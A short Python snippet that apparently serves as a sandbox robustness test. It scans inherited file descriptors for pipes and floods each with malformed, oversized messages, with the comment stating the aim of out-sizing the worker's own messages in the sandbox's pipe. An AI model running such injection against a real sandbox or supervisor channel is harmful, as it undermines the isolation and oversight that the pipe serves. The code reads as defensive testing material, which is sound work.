# tries: notes in the sandbox's own pipe that take more room than a message of the worker's
# order: attack first
import os, stat
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for _ in range(8):
                os.write(fd, b"x\t" + b"\xff" * 196 + b"\n")
    except OSError:
        pass
